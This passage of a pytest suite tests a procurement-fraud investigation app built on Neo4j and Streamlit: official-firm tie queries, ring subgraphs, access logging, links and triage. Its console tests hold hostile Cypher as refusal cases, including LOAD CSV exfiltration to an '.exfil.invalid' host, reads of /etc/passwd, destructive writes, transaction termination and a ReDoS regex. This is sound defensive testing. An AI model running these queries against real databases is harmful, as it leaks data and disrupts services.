                     "firm": "Epsilon Favoured", "ties": ["their sibling Paula Sister (P2) holds 60 % of its shares"],
                     "inspections": 6, "passed": 6, "approvals": 3, "committees": 0, "won": 0}]
    # the other kinds of tie: the official's own phone on two firms; an e-mail O1 shares with F6, which O1
    # inspected 4 times (2 passed); O3's relative shares a phone with P1, a shareholder of F1 and F3, whose
    # tenders O3 evaluated
    with market_db.driver.session(database=market_db.settings.database) as session:
        session.run("""
            MATCH (o2:Official {id: 'O2'}), (phone:Phone {value: '13800000001'}) CREATE (o2)-[:HAS_PHONE]->(phone)
            WITH count(*) AS _
            MATCH (o1:Official {id: 'O1'}), (f6:Firm {id: 'F6'})
            CREATE (o1)-[:HAS_EMAIL]->(:Email {value: 'olga@home.example'})<-[:HAS_EMAIL]-(f6)
            WITH count(*) AS _
            MATCH (o3:Official {id: 'O3'}), (p1:Person {id: 'P1'})
            CREATE (o3)-[:RELATED_TO {relation: 'brother_in_law'}]->(:Person {id: 'P9', name: 'Pete Kin'})
                   -[:HAS_PHONE]->(:Phone {value: '13900000009'})<-[:HAS_PHONE]-(p1)""").consume()
    rows = market_db.read_frame("analyst_official_firm_ties", official_id=None, limit=10).set_index(
        ["official_id", "firm_id"])
    assert rows.loc[("O2", "F1"), "ties"] == ["the official shares phone 13800000001 with it (2 firms use it)"]
    assert rows.loc[("O1", "F6"), ["inspections", "passed"]].tolist() == [4, 2]
    assert rows.loc[("O1", "F6"), "ties"] == ["the official shares email olga@home.example with it"]
    for firm in ("F1", "F3"):
        assert rows.loc[("O3", firm), "ties"] == [
            "their brother-in-law Pete Kin (P9) shares phone 13900000009 with its shareholder Pat Owner (P1)"]
    assert rows.loc[("O3", "F1"), ["committees", "won"]].tolist() == [6, 2]
    # one official only
    only = market_db.read_frame("analyst_official_firm_ties", official_id="O2", limit=10)
    assert only["firm_id"].tolist() == ["F1", "F2"]
    # the official itself holds a role only as the person it is declared to be (relation 'self'): a person
    # of another register whose id happens to be O4's is someone else
    with market_db.driver.session(database=market_db.settings.database) as session:
        session.run("""
            MATCH (f1:Firm {id: 'F1'}), (f2:Firm {id: 'F2'})
            CREATE (o4:Official {id: 'O4', name: 'Otto Four', department_id: 'D1'})
            CREATE (:Person {id: 'O4', name: 'Namesake'})-[:LEGAL_REP_OF]->(f1)
            CREATE (o4)-[:RELATED_TO {relation: 'self'}]->(:Person {id: 'P40'})-[:SHAREHOLDER_OF {share: 0.004}]->(f2)
            """).consume()
    mine = market_db.read_frame("analyst_official_firm_ties", official_id="O4", limit=10)
    assert mine[["firm_id", "ties"]].to_dict("records") == [
        {"firm_id": "F2", "ties": ["the official holds 0.4 % of its shares"]}]
    # the official's own phone on the person it is declared to be is that person's, not a second tie
    with market_db.driver.session(database=market_db.settings.database) as session:
        session.run("""MATCH (o4:Official {id: 'O4'}), (p40:Person {id: 'P40'})
                       CREATE (o4)-[:HAS_PHONE]->(:Phone {value: '13900000040'})<-[:HAS_PHONE]-(p40)""").consume()
    mine = market_db.read_frame("analyst_official_firm_ties", official_id="O4", limit=10)
    assert mine["ties"].tolist() == [["the official holds 0.4 % of its shares"]]


def test_analyst_ring_subgraph_draws_the_rings_own_tenders_only(market_db):
    """The saved query drew every tender any member ever won, the ring's or not (an app review): a tender F1
    won against the outsider F4 alone, or one where F2 bid alone, is no tender of RING-1's, and a tender where
    members bid and an outsider won is one."""
    with market_db.driver.session(database=market_db.settings.database) as session:
        session.run("""
            MATCH (f1:Firm {id: 'F1'}), (f2:Firm {id: 'F2'}), (f3:Firm {id: 'F3'}), (f4:Firm {id: 'F4'})
            CREATE (t7:Tender {id: 'T7', title: 'Solo win'}), (t8:Tender {id: 'T8', title: 'Solo loss'}),
                   (t9:Tender {id: 'T9', title: 'Outsider win'}),
                   (f1)-[:SUBMITTED]->(:Bid {id: 'B7-F1', amount: 90.0})-[:FOR]->(t7),
                   (f4)-[:SUBMITTED]->(:Bid {id: 'B7-F4', amount: 95.0})-[:FOR]->(t7), (t7)-[:AWARDED_TO]->(f1),
                   (f2)-[:SUBMITTED]->(:Bid {id: 'B8-F2', amount: 90.0})-[:FOR]->(t8), (t8)-[:AWARDED_TO]->(f4),
                   (f2)-[:SUBMITTED]->(:Bid {id: 'B9-F2', amount: 91.0})-[:FOR]->(t9),
                   (f3)-[:SUBMITTED]->(:Bid {id: 'B9-F3', amount: 92.0, status: 'withdrawn'})-[:FOR]->(t9),
                   (f3)-[:SUBMITTED]->(:Bid {id: 'B9-F3b', amount: 93.0})-[:FOR]->(t9),
                   (f4)-[:SUBMITTED]->(:Bid {id: 'B9-F4', amount: 90.0})-[:FOR]->(t9), (t9)-[:AWARDED_TO]->(f4)
            """).consume()
    result = app_queries.run_console(market_db, named("analyst_ring_subgraph").text, {"ring_id": "RING-1"})
    nodes = result.graph.nodes.values()
    tenders = {n.props["id"] for n in nodes if n.label == "Tender"}
    assert tenders == {"T1", "T2", "T3", "T4", "T5", "T6", "T9"}
    assert {n.props["id"] for n in nodes if n.label == "Firm"} == {"F1", "F2", "F3"}  # the outsider's bids: not drawn
    assert {n.props["id"] for n in nodes if n.label == "Bid"} == {f"B{i}-{f}" for i in range(1, 7)
                                                                for f in ("F1", "F2", "F3")} | {"B9-F2", "B9-F3b"}
    won = [e for e in result.graph.edges.values() if e.type == "AWARDED_TO"]
    assert len(won) == 6  # each of T1–T6 won by a member; T9 by the outsider
    # near-miss: with one of its bids withdrawn, T9 has a single member's bid and is no tender of the ring's
    with market_db.driver.session(database=market_db.settings.database) as session:
        session.run("MATCH (b:Bid {id: 'B9-F3b'}) SET b.status = 'withdrawn'").consume()
    result = app_queries.run_console(market_db, named("analyst_ring_subgraph").text, {"ring_id": "RING-1"})
    assert "T9" not in {n.props["id"] for n in result.graph.nodes.values() if n.label == "Tender"}


WRITES = {
    "create": "CREATE (:Intruder {id: 'X'})",
    "merge": "MERGE (f:Firm {id: 'F1'}) SET f.name = 'hijacked'",
    "set": "MATCH (r:Ring {id: 'RING-1'}) SET r.status = 'dismissed'",
    "delete": "MATCH (b:Bid) DETACH DELETE b",
    "write_procedure": "CALL db.createLabel('Intruder')",
}


def _run_free_cypher(statement: str):  # type: ignore[no-untyped-def]
    """The console page with ``statement`` typed as free Cypher and run; the page, checked for exceptions."""
    at = app_session("views/console.py")
    at.radio(key="console_mode").set_value("Free Cypher").run()
    at.text_area(key="console_text").input(statement)
    at.button(key="console_run").click().run()
    no_exception(at)
    return at


@pytest.mark.parametrize("statement", list(WRITES.values()), ids=list(WRITES))
def test_console_refuses_writes_and_the_database_is_unchanged(market_db, statement, access_log):
    before = _fingerprint(market_db)
    at = _run_free_cypher(statement)
    assert any("Refused by the database" in e.value for e in at.error), [e.value for e in at.error]
    assert _fingerprint(market_db) == before
    with pytest.raises(GraphError, match="AccessMode"):
        market_db.run_read_only(statement)
    [entry] = access_entries(access_log)  # the attempt is on record, with the statement as typed
    assert (entry["user"], entry["mode"], entry["query"], entry["outcome"]) == (USER, "free", statement, "refused")
    assert entry["rows"] is None and entry["error"]


SERVER_COMMANDS = {
    "terminate_the_job_lock": "SHOW TRANSACTIONS YIELD transactionId, metaData WHERE metaData.iron_cage_job_lock "
                              "IS NOT NULL TERMINATE TRANSACTIONS transactionId YIELD message RETURN message",
    "terminate_by_id": "TERMINATE TRANSACTIONS 'neo4j-transaction-1'",
    "show_transactions": "SHOW TRANSACTIONS YIELD currentQuery, parameters RETURN currentQuery, parameters",
    "clear_caches": "CALL db.clearQueryCaches()",
    "load_csv_write": "LOAD CSV FROM 'file:///firms.csv' AS row CREATE (:Intruder {id: row[0]})",
    "load_csv_dns": "MATCH (f:Firm) WITH f LIMIT 1 CALL { WITH f LOAD CSV FROM 'http://' + f.id + '.exfil.invalid/' "
                    "AS r RETURN r } RETURN r",
    "settings": "show settings yield name, value return name, value",
    # a check that rewrote the text was run instead of planned (review): a PROFILE kept, options misread
    "profile_after_a_comment": "// PROFILE\nPROFILE TERMINATE TRANSACTIONS 'neo4j-transaction-42'",
    "explain_as_a_name": "CYPHER 5 SHOW TRANSACTIONS YIELD transactionId AS EXPLAIN, username "
                         "TERMINATE TRANSACTIONS EXPLAIN YIELD message RETURN message",
    "profile": "PROFILE MATCH (f:Firm) RETURN count(f) AS n",
}


@pytest.mark.parametrize("statement", list(SERVER_COMMANDS.values()), ids=list(SERVER_COMMANDS))
def test_console_refuses_what_acts_on_the_server_while_a_job_holds_the_lock(market_db, statement, access_log):
    """A read transaction does not stop TERMINATE TRANSACTIONS (it ended a load's lock transaction,
    and a detector run on another host then ran inside the load), db.clearQueryCaches(), SHOW
    TRANSACTIONS (other sessions' parameters) or LOAD CSV (the server resolves any host name in a
    URL: values sent out in a DNS look-up). The database's plan names them; the console refuses
    them before they run, and the job keeps its lock."""
    from graph.lock import server_lock

    with server_lock(market_db, "a scheduled load"):
        at = _run_free_cypher(statement)
        assert any("Refused before it ran" in e.value for e in at.error), [e.value for e in at.error]
        [holder] = market_db.read("job_lock_holder", lock="database")
        assert holder["meta"]["job"] == "a scheduled load"
    [entry] = access_entries(access_log)
    assert (entry["query"], entry["outcome"]) == (statement, "refused")


def test_console_keeps_reads_of_the_schema_search_and_plans():
    """Near-misses of the plan check: reading procedures, SHOW INDEXES, full-text search, EXPLAIN
    and PROFILE, query options first. (Pure: the plans as the database gives them.)"""
    from graph.db import console_refusal

    def plan(*operators: tuple[str, str]) -> dict:
        node: dict = {}
        for operator, details in reversed(operators):
            node = {"operatorType": f"{operator}@neo4j", "args": {"Details": details},
                    "children": [node] if node else []}
        return node

    assert console_refusal("r", plan(("ProduceResults", "label"), ("ProcedureCall", "db.labels() :: (label)"))) is None
    assert console_refusal("r", plan(("ProduceResults", "name"), ("ShowIndexes", "allIndexes"))) is None
    assert console_refusal("r", plan(("ProcedureCall", "db.index.fulltext.queryNodes(...)"))) is None
    assert "db.clearQueryCaches" in console_refusal("r", plan(("ProcedureCall", "db.clearQueryCaches() :: x")))
    assert console_refusal("s", plan(("ProcedureCall", "dbms.components() :: x"))) is not None
    assert console_refusal("w", plan(("Create", "(n:X)"))) is None  # the READ transaction refuses it itself
    assert "LoadCSV" in console_refusal("rw", plan(("Create", "x"), ("LoadCSV", "row")))


def test_console_runs_explain_comments_and_query_options(market_db):
    for statement in ("CALL db.labels()", "SHOW INDEXES YIELD name RETURN name",
                      "EXPLAIN MATCH (f:Firm) RETURN f", "// a comment\nMATCH (f:Firm) RETURN count(f) AS n",
                      "/* PROFILE */ MATCH (f:Firm) RETURN count(f) AS n",
                      "CYPHER 5 MATCH (f:Firm) RETURN count(f) AS n",
                      "CALL db.index.fulltext.queryNodes('entity_search', 'Alpha') YIELD node RETURN node.id AS id"):
        keys, _, _ = market_db.run_read_only(statement)
        assert keys, statement
    with pytest.raises(GraphError) as error:  # a typo reads as typed: no "EXPLAIN " the console put there
        market_db.run_read_only("MATCH (f:Firm RETURN f")
    assert '"MATCH (f:Firm RETURN f"' in str(error.value) and "column 15 (offset: 14)" in str(error.value)


def test_console_refuses_regular_expressions_and_planner_debug_options(market_db):
    """Found by an attack on the console: a backtracking pattern (`$s =~ $p`, "(.*a){12}$") ran for
    7 minutes past the 30 s limit on one core, and `CYPHER debug=printcostcomparisons` wrote 5.6 MB
    to the server's log in 4 s, already while the check planned it. Near-miss: CONTAINS reads."""
    from graph.db import ConsoleRefused

    with pytest.raises(ConsoleRefused, match="regular expression"):
        market_db.run_read_only("RETURN $s =~ $p AS m", {"s": "a" * 44 + "!", "p": "(.*a){12}$"})
    with pytest.raises(ConsoleRefused, match="regular expression"):
        market_db.run_read_only("MATCH (f:Firm) WHERE f.name =~ 'Alpha.*' RETURN f.id")
    with pytest.raises(ConsoleRefused, match="debug option"):
        market_db.run_read_only("CYPHER replan=force DEBUG = printcostcomparisons MATCH (f:Firm) RETURN count(f)")
    keys, records, _ = market_db.run_read_only("MATCH (f:Firm) WHERE f.name CONTAINS 'Alpha' RETURN f.id AS id")
    assert [r["id"] for r in records] == ["F1"]


def test_the_console_stops_waiting_for_a_query_the_server_cannot_stop(market_db, monkeypatch):
    """One expression looping inside a row runs past the transaction's time limit (the server checks
    it between steps), and the page waited with it: the console now stops waiting a grace period
    after the limit and says so; the server is free for other sessions meanwhile."""
    import time

    import graph.db as db_module

    monkeypatch.setattr(db_module, "CONSOLE_GRACE_S", 1.0)
    started = time.monotonic()
    with pytest.raises(GraphError, match="did not stop at the console's limit of 1 s"):
        market_db.run_read_only("RETURN reduce(s = 0, x IN range(1, $n) | s + x % 7) AS m", {"n": 4 * 10**8},
                                timeout_s=1.0)
    assert time.monotonic() - started < 5
    assert market_db.read_frame("app_label_counts") is not None  # others are served meanwhile


def test_console_free_cypher_takes_its_parameters_in_boxes(market_db, access_log):
    """A $name in free Cypher gets a box, as a saved query's do: the value goes in as a parameter (a
    quote in it is data, not Cypher), and the access log records it beside the text as typed."""
    at = app_session("views/console.py")
    at.radio(key="console_mode").set_value("Free Cypher").run()
    text = "MATCH (f:Firm) WHERE f.id = $id OR f.name = $name RETURN f.name AS name, '$not' AS s LIMIT $limit"
    at.text_area(key="console_text").input(text).run()
    assert [t.label for t in at.text_input] == ["$id", "$name", "$limit"]
    at.text_input(key="console_free_param_id").input("F1")
    at.text_input(key="console_free_param_name").input("x' OR 1=1 //")
    at.text_input(key="console_free_param_limit").input("5")
    at.button(key="console_run").click().run()
    no_exception(at)
    [result] = [d.value for d in at.dataframe]
    assert list(result["name"]) == ["Alpha Build"]
    [entry] = access_entries(access_log)
    assert (entry["mode"], entry["query"], entry["params"]) == ("free", text, {"id": "F1", "name": "x' OR 1=1 //",
                                                                               "limit": 5})


def test_console_runs_only_what_the_access_log_can_record_whole_and_shows_errors_as_text(market_db, access_log):
    at = app_session("views/console.py")
    at.radio(key="console_mode").set_value("Free Cypher").run()
    padded = "//" + " " * 20_000 + "\nMATCH (f:Firm) RETURN f.id AS firm_id"  # the log would keep only the padding
    at.text_area(key="console_text").input(padded)
    at.button(key="console_run").click().run()
    no_exception(at)
    assert any("Not run" in e.value and "20,000 characters" in e.value for e in at.error)
    assert not at.dataframe and not access_entries(access_log)
    # Neo4j's error quotes the value it could not read: shown as characters, not as an image to fetch
    at.text_area(key="console_text").input("RETURN date('![x](https://ev.il/i.png)') AS d")
    at.button(key="console_run").click().run()
    no_exception(at)
    [error] = [e.value for e in at.error]
    assert "The query failed" in error and "](https" not in error and "\\]\\(" in error
    assert access_entries(access_log)[-1]["outcome"] == "failed"


def test_console_reads_cannot_make_the_server_fetch_a_url_or_a_file(market_db, access_log):
    """LOAD CSV is a read, so a read transaction alone would let the console send record values to any
    address (or read the server's files): the console refuses it from the database's plan, and, a
    second layer, the local server's configuration blocks both for any client."""
    import http.server
    import threading

    fetched: list[str] = []

    class Handler(http.server.BaseHTTPRequestHandler):
        def do_GET(self) -> None:  # noqa: N802 (the standard library's name)
            fetched.append(self.path)
            self.send_response(200)
            self.end_headers()
            self.wfile.write(b"a,b\n")

        def log_message(self, *args: object) -> None:
            pass

    server = http.server.HTTPServer(("127.0.0.1", 0), Handler)
    threading.Thread(target=server.serve_forever, daemon=True).start()
    try:
        at = app_session("views/console.py")
        at.radio(key="console_mode").set_value("Free Cypher").run()
        for query in (f"MATCH (f:Firm) WITH collect(f.name) AS names LOAD CSV FROM "
                      f"'http://127.0.0.1:{server.server_port}/x?' + names[0] AS row RETURN row",
                      "LOAD CSV FROM 'file:///etc/passwd' AS row RETURN row"):
            at.text_area(key="console_text").input(query)
            at.button(key="console_run").click().run()
            no_exception(at)
            assert any("Refused before it ran" in e.value and "LoadCSV" in e.value for e in at.error), \
                [e.value for e in at.error]
            assert not at.dataframe
            with market_db.driver.session(database=market_db.settings.database, default_access_mode="READ") as session:
                with pytest.raises(Neo4jError):  # the server's own block, for a client without the console's check
                    session.run(query).consume()
    finally:
        server.shutdown()
    assert fetched == []
    assert [e["outcome"] for e in access_entries(access_log)] == ["refused", "refused"]


def test_console_shows_nothing_when_the_access_log_cannot_be_written(market_db, tmp_path, monkeypatch):
    monkeypatch.setenv("IRONCAGE_ACCESS_LOG", str(tmp_path))  # a folder: no line can be appended to it
    at = app_session("views/console.py")
    at.radio(key="console_mode").set_value("Free Cypher").run()
    at.text_area(key="console_text").input("MATCH (f:Firm) RETURN f.id AS firm_id, f.name AS name")
    at.button(key="console_run").click().run()
    no_exception(at)
    assert any("The result is not shown" in e.value and "access log" in e.value for e in at.error), \
        [e.value for e in at.error]
    assert not at.dataframe  # no rows reached the page
    monkeypatch.setenv("IRONCAGE_ACCESS_LOG", str(tmp_path / "access.log"))
    at.button(key="console_run").click().run()
    assert not at.error and len(table(at, "firm_id", "name")) > 0
    # and a result shown before goes away when the next query cannot be recorded
    monkeypatch.setenv("IRONCAGE_ACCESS_LOG", str(tmp_path))
    at.button(key="console_run").click().run()
    assert at.error and not at.dataframe


def test_opening_a_record_is_logged_once_per_session_and_not_shown_unlogged(market_db, access_log, tmp_path,
                                                                           monkeypatch):
    at = app_session("views/officials.py")
    first = at.selectbox(key="officials_pick").value  # the record the page opens with is shown: logged
    assert first in ("O1", "O2")  # D1's officials; D2 holds only O3
    other = "O2" if first == "O1" else "O1"
    for official in (other, first, other):
        at.selectbox(key="officials_pick").set_value(official).run()
        no_exception(at)
    opened = [(e["user"], e["page"], e["official_id"], e["shown"]) for e in access_entries(access_log)
              if e["action"] == "record_view"]
    # the record the page opened with was shown, not picked; picking it later says so; each pick once
    assert opened == [(USER, "officials", first, "shown, not picked"), (USER, "officials", other, "chosen"),
                      (USER, "officials", first, "chosen")]
    # a filter that leaves another record first shows it without anyone picking it
    at.selectbox(key="officials_department").set_value("D2").run()
    [*_, shown] = [e for e in access_entries(access_log) if e["action"] == "record_view"]
    assert (shown["official_id"], shown["shown"]) == ("O3", "shown, not picked")
    # another user signing in on the same browser session is logged for what it opens itself
    at.session_state["auth_user"] = "Second Reader"
    at.selectbox(key="officials_pick").set_value("O3").run()
    assert [e["user"] for e in access_entries(access_log) if e["action"] == "record_view"][-1] == "Second Reader"

    pairs = app_session("views/closeness.py")
    [pair] = [e for e in access_entries(access_log) if e["action"] == "record_view" and e["page"] == "closeness"]
    assert (pair["finding_id"], pair["official_id"], pair["firm_id"]) == ("PAIR-1", "O1", "F5")
    no_exception(pairs)

    # the log cannot be written: the list shows, the record does not
    monkeypatch.setenv("IRONCAGE_ACCESS_LOG", str(tmp_path))  # a folder: no line can be appended to it
    firms = app_session("views/firms.py")
    no_exception(firms)
    assert any("The record is not shown" in e.value and "access log" in e.value for e in firms.error)
    assert len(firms.dataframe) == 1 and not firms.metric  # the list of firms, none of one firm's record


def test_a_link_opens_its_record_once_and_a_pick_goes_in_the_address(market_db, access_log):
    """Pages linked to nothing: an investigator reading a pair could not get to its firm or official but by
    finding them again in another list (an app review). ``?open=<id>`` opens a page's record."""
    at = app_session("views/firms.py")
    assert at.selectbox(key="firm_pick").value == "F1"  # the list's first, with no link
    at.query_params["open"] = "F3"
    at.run()
    no_exception(at)
    assert at.selectbox(key="firm_pick").value == "F3" and "(F3)" in all_text(at)
    [*_, opened] = [e for e in access_entries(access_log) if e["action"] == "record_view"]
    assert (opened["firm_id"], opened["shown"]) == ("F3", "chosen")  # a link followed is a record asked for
    # the user's own pick then stands on every rerun, and goes in the address bar to be bookmarked or sent
    at.selectbox(key="firm_pick").set_value("F2").run()
    at.run()
    assert at.selectbox(key="firm_pick").value == "F2" and at.query_params["open"] == "F2"
    # an id the list does not hold is said, and the list's first record shows
    at = app_session("views/firms.py")
    at.query_params["open"] = "F999"
    at.run()
    no_exception(at)
    assert any("F999 from the link is not in this list" in w.value for w in at.warning)
    assert at.selectbox(key="firm_pick").value == "F1"
    # Tenders takes a tender's id as well as its finding's
    at = app_session("views/tenders.py")
    at.query_params["open"] = "T3"
    at.run()
    no_exception(at)
    picked = at.selectbox(key="tender_pick").value
    assert picked != "T3" and app_queries.finding(market_db, picked)["subjects"][0]["id"] == "T3"


def test_a_link_to_a_tender_no_finding_names_opens_its_record_and_bids(market_db, access_log):
    """A ring's table named 45 tenders, 22 of them without a finding of their own: a link to one said it was not in
    the list and showed another tender, and its bids were readable only in Cypher (an app review). T1 is one of
    RING-1's tenders that no finding names."""
    at = app_session("views/tenders.py")
    at.query_params["open"] = "T1"
    at.run()
    no_exception(at)
    assert not at.warning and at.selectbox(key="tender_pick").value == "T1"
    text = all_text(at)
    assert "### T1 · no finding" in text and "4 bids, won by Alpha Build" in text
    bids = table(at, "firm_name", "pct_above_winner")
    assert list(bids["firm_id"]) == ["F1", "F2", "F3", "F4"] and bids["is_winner"].tolist() == [True, False, False,
                                                                                                 False]
    assert ("rings", "open=RING-1") in [(link.proto.page, link.proto.query_string) for link in at.page_link]
    assert not [e for e in at.dataframe if "fact" in e.value.columns]  # no facts and no triage: there is no finding
    assert "Triage" not in text
    [*_, opened] = [e for e in access_entries(access_log) if e["action"] == "record_view"]
    assert opened["tender_id"] == "T1" and "finding_id" not in opened
    # the flagged ones stay a pick away, and a pick takes the address
    at.selectbox(key="tender_pick").set_value("TR-1").run()
    no_exception(at)
    assert at.query_params["open"] == "TR-1" and "T1" not in at.selectbox(key="tender_pick").options
    # near-miss: an id no tender has is said, and the list's first finding shows
    at = app_session("views/tenders.py")
    at.query_params["open"] = "T404"
    at.run()
    assert any("T404 from the link is not in this list" in w.value for w in at.warning)


def test_a_link_to_a_firm_no_finding_names_opens_it_through_the_search(market_db, access_log):
    """``?open=F7`` named a firm the list of flagged firms does not hold: the page said it was not in the list,
    though the search opens any firm; and a pick from the list left its ``?open=`` in the address, so the next
    search warned the picked firm was not among the results."""
    with market_db.driver.session(database=market_db.settings.database) as session:
        session.run("CREATE (:Firm {id: 'F7', name: 'Eta Quiet Works', source: 'test'})").consume()
    at = app_session("views/firms.py")
    at.query_params["open"] = "F7"
    at.run()
    no_exception(at)
    assert not at.warning
    assert at.text_input(key="firm_search").value == "F7" and at.selectbox(key="firm_search_pick").value == "F7"
    assert "Eta Quiet Works (F7)" in all_text(at)
    [*_, opened] = [e for e in access_entries(access_log) if e["action"] == "record_view"]
    assert (opened["firm_id"], opened["shown"]) == ("F7", "chosen")  # a link followed is a record asked for
    # the user's search then stands: the link is not applied again
    at.text_input(key="firm_search").input("").run()
    no_exception(at)
    assert at.selectbox(key="firm_pick").value == "F1" and not at.warning
    # a pick from the list, then a search: no word of the picked firm missing from the results
    at.selectbox(key="firm_pick").set_value("F2").run()
    assert at.query_params["open"] == "F2"
    at.text_input(key="firm_search").input("eta quiet").run()
    no_exception(at)
    assert not at.warning and at.selectbox(key="firm_search_pick").value == "F7"
    at.text_input(key="firm_search").input("build").run()
    at.selectbox(key="firm_search_pick").set_value("F3").run()  # a pick from the results goes in the address
    assert at.query_params["open"] == "F3" and not at.warning
    # near-miss: a flagged firm's link opens it in the list, as before
    at = app_session("views/firms.py")
    at.query_params["open"] = "F3"
    at.run()
    assert at.selectbox(key="firm_pick").value == "F3" and at.text_input(key="firm_search").value == ""


def test_a_link_opened_before_signing_in_opens_its_page_and_record_after(market_db, access_log):
    """A link or bookmark (/firms?open=F3) opened the Overview after the sign-in: the app chose its page only
    once someone was signed in, so the address's page was lost at the login (an app review in a browser)."""
    from streamlit.testing.v1 import AppTest

    from tests.app.conftest import APP

    at = AppTest.from_file(str(APP), default_timeout=60)
    at.secrets["app_password"] = PASSWORD
    at.switch_page("views/firms.py")
    at.query_params["open"] = "F3"
    at.run()
    assert "Log in" in all_text(at) and not at.metric  # nothing of the page before the sign-in
    at.text_input(key="login_name").input("Ivan Investigator")
    at.text_input(key="login_password").input(PASSWORD)
    at.button[0].click().run()
    no_exception(at)
    assert at.selectbox(key="firm_pick").value == "F3" and "Gamma Build (F3)" in all_text(at)


def test_pages_link_a_finding_to_the_pages_of_its_subjects(market_db):
    def links(at: Any) -> list[tuple[str, str]]:
        return [(link.proto.page, link.proto.query_string) for link in at.page_link]  # page: its URL path

    pair = app_session("views/closeness.py")
    no_exception(pair)
    assert links(pair) == [("officials", "open=O1"), ("firms", "open=F5"), ("cases", "open=OFF-1")]  # related last
    case = app_session("views/cases.py")
    case.selectbox(key="cases_pick").set_value("PAIR-1").run()
    no_exception(case)
    assert links(case) == [("closeness", "open=PAIR-1"), ("officials", "open=O1"),
                           ("firms", "open=F5"), ("cases", "open=OFF-1")]
    case.selectbox(key="cases_pick").set_value("RING-1").run()
    assert links(case)[0] == ("rings", "open=RING-1")  # then its tenders, as on Rings
    tender = app_session("views/tenders.py")
    tender.selectbox(key="tender_pick").set_value("TR-1").run()
    assert ("rings", "open=RING-1") in links(tender)
    # a firm's findings open on their pages, and the officials who supervised it on Officials
    firm = app_session("views/firms.py")
    firm.selectbox(key="firm_pick").set_value("F5").run()
    no_exception(firm)
    assert {("closeness", "open=PAIR-1"), ("officials", "open=O1"), ("officials", "open=O2")} <= set(links(firm))


def test_the_downloaded_case_file_and_report_name_the_records_behind_the_finding(market_db, access_log,
                                                                                 monkeypatch):
    """The case file and report of a ring named none of its tenders, and a pair's none of the inspections and
    approvals behind it (an app review). The files are made when the browser fetches them, which AppTest
    cannot: the buttons' data functions are caught and called as Streamlit would."""
    import json

    from streamlit.delta_generator import DeltaGenerator

    made: dict[str, object] = {}
    original = DeltaGenerator.download_button

    def catch(self, label, data=None, *args, **kwargs):  # type: ignore[no-untyped-def]
        made[kwargs.get("key")] = data
        return original(self, label, data, *args, **kwargs)

    monkeypatch.setattr(DeltaGenerator, "download_button", catch)
    at = app_session("views/rings.py")
    no_exception(at)
    ring = json.loads(made["case_file_rings"]())
    assert ring["records"] == {"tenders": {"ids": ["T1", "T2", "T3", "T4", "T5", "T6"], "total": 6}}
    assert "T1, T2, T3, T4, T5, T6" in made["case_report_rings"]().decode("utf-8")
    at = app_session("views/closeness.py")
    no_exception(at)
    pair = json.loads(made["case_file_pairs"]())["records"]
    assert (pair["inspections"]["total"], pair["approvals"]["ids"]) == (6, ["A1", "A2", "A3"])
    assert "evaluations" not in pair  # O1 sat on no committee of a tender F5 bid in
    assert [e["action"] for e in access_entries(access_log)][-1] == "case_file_export"


def test_cases_page_triage_is_append_only(market_db):
    at = app_session("views/cases.py")
    no_exception(at)
    cases = table(at, "finding_id", "about")
    # an official-profile finding is a case too (it was not, so nobody could triage it and the findings
    # expiry deleted each one once inactive); the tender finding's subject is its tender
    assert list(cases["finding_id"]) == ["RING-1", "PAIR-1", "TR-1", "RF-1", "RF-2", "LB-1", "OFF-1", "RING-2"]
    about = cases.set_index("finding_id")["about"]  # by name, as Overview says them (it listed bare ids)
    assert (about["TR-1"], about["RF-2"], about["OFF-1"]) == ("Road resurfacing lot 2 (T2)", "Roads Bureau (D2)",
                                                              "Olga Inspector (O1)")  # a buyer's red flags too
    assert about["RING-1"] == "Alpha Build (F1), Beta Build (F2), Gamma Build (F3)"
    at.selectbox(key="cases_pick").set_value("PAIR-1").run()
    at.selectbox(key="triage_status_cases_PAIR-1").set_value("confirmed")
    at.text_input(key="triage_assignee_cases_PAIR-1").input("Ana")
    _submit(at, "Save triage")
    no_exception(at)
    first = app_queries.case_events(market_db, "PAIR-1")
    assert list(first["action"]) == ["status", "assign"]
    at.selectbox(key="triage_status_cases_PAIR-1").set_value("dismissed")
    at.text_area(key="triage_comment_cases_PAIR-1").input("Explained by the small district")
    _submit(at, "Save triage")
    later = app_queries.case_events(market_db, "PAIR-1")
    assert list(later["action"]) == ["status", "assign", "status", "comment"]
    # earlier events are untouched: same ids, times, statuses
    assert later.iloc[:2].reset_index(drop=True).equals(first.reset_index(drop=True))
    assert list(later["status"]) == ["confirmed", "confirmed", "dismissed", "dismissed"]
    pair = app_queries.finding(market_db, "PAIR-1")
    assert (pair["status"], pair["assignee"]) == ("dismissed", "Ana")
    cases_now = table(at, "finding_id", "about").set_index("finding_id")
    assert cases_now.loc["PAIR-1", "status"] == "dismissed" and cases_now.loc["PAIR-1", "events"] == 4
    # the boxes take no more than a triage event keeps (app_queries.record_triage refuses the rest)
    assert at.text_input(key="triage_assignee_cases_PAIR-1").max_chars == app_queries.MAX_ASSIGNEE_CHARS
    assert at.text_area(key="triage_comment_cases_PAIR-1").max_chars == app_queries.MAX_COMMENT_CHARS
    # another case's form shows that case's state, not the one just saved: saving it unchanged writes nothing
    at.selectbox(key="cases_pick").set_value("RING-1").run()
    assert at.selectbox(key="triage_status_cases_RING-1").value == "open"
    assert at.text_input(key="triage_assignee_cases_RING-1").value == ""
    _submit(at, "Save triage")
    assert app_queries.case_events(market_db, "RING-1").empty


def test_a_stale_triage_form_neither_reverts_nor_repeats_a_colleagues_change(market_db):
    at = app_session("views/cases.py")
    at.selectbox(key="cases_pick").set_value("PAIR-1").run()
    assert at.selectbox(key="triage_status_cases_PAIR-1").value == "open"
    # while the form stands open, a colleague confirms the pair and takes it
    app_queries.record_triage(market_db, "PAIR-1", "Li", status="confirmed", assignee="Li")
    clear_app_caches()
    at.text_area(key="triage_comment_cases_PAIR-1").input("Seen the 2023 visits")
    _submit(at, "Save triage")
    no_exception(at)
    events = app_queries.case_events(market_db, "PAIR-1")
    assert list(zip(events["user"], events["action"], strict=True)) == [
        ("Li", "status"), ("Li", "assign"), (USER, "comment")]  # only the comment is this user's
    pair = app_queries.finding(market_db, "PAIR-1")
    assert (pair["status"], pair["assignee"]) == ("confirmed", "Li")
    # after the save the form shows the case as it is now
    assert at.selectbox(key="triage_status_cases_PAIR-1").value == "confirmed"
    assert at.text_input(key="triage_assignee_cases_PAIR-1").value == "Li"

    # both change the status: the later one is not saved, and the user is told
    app_queries.record_triage(market_db, "PAIR-1", "Li", status="dismissed")
    clear_app_caches()
    at.selectbox(key="triage_status_cases_PAIR-1").set_value("in_progress")
    _submit(at, "Save triage")
    no_exception(at)
